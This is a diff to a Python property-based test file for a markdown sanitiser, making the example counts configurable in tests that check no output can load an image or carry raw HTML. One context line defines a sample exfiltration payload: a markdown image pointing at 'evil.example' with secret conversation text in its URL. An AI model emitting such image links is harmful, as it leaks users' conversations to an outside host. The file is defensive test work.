@@ -17,6 +17,7 @@ from components.text.markdown_safety import (
     safe_partial_markdown,
     stream_safely,
 )
+from tests.conftest import examples
 from tests.markdown_oracle import findings, walk
 
 TRACKER = "![x](https://evil.example/p.png?q=secret+conversation)"
@@ -332,7 +333,7 @@ _PIECES = st.sampled_from(
 )
 
 
-@settings(max_examples=400, deadline=None)
+@settings(max_examples=examples(400), deadline=None)
 @given(st.lists(_PIECES, max_size=40).map("".join))
 def test_no_output_can_load_an_image_or_carry_raw_html(text):
     # The renderer's own parser decides what is code: a regex view of code spans and fences
@@ -342,7 +343,7 @@ def test_no_output_can_load_an_image_or_carry_raw_html(text):
     assert findings(out) == [], (text, out)
 
 
-@settings(max_examples=200, deadline=None)
+@settings(max_examples=examples(200), deadline=None)
 @given(st.lists(_PIECES, max_size=40).map("".join))
 def test_live_views_are_as_safe_as_the_final_one(text):
     for cut in range(0, len(text) + 1, max(1, len(text) // 8)):
@@ -530,7 +531,7 @@ HOSTILE_PIECES = st.sampled_from(
 )
 
 
-@settings(max_examples=600, deadline=None)
+@settings(max_examples=examples(600), deadline=None)
 @given(st.lists(HOSTILE_PIECES, max_size=40).map("".join))
 # found by this test: a list's first item held only a definition; written empty, it could no
 # longer interrupt the paragraph above, and a code span joined them with the HTML inside
@@ -545,14 +546,14 @@ def test_the_parser_reads_no_image_html_or_odd_link_in_the_output(text):
     assert findings(out) == [], (text, out)
 
 
-@settings(max_examples=200, deadline=None)
+@settings(max_examples=examples(200), deadline=None)
 @given(st.lists(HOSTILE_PIECES, max_size=40).map("".join))
 def test_the_parser_reads_none_in_any_live_view_either(text):
     for cut in range(0, len(text) + 1, max(1, len(text) // 6)):
         assert findings(safe_partial_markdown(text[:cut])) == [], text[:cut]
 
 
-@settings(max_examples=200, deadline=None)
+@settings(max_examples=examples(200), deadline=None)
 @given(st.lists(st.text(max_size=60), min_size=1, max_size=12))
 def test_a_sessions_kept_results_are_what_making_each_text_safe_gives(texts):
     """``MadeSafe`` (each session's, for answers and meta lines drawn on every run) answers
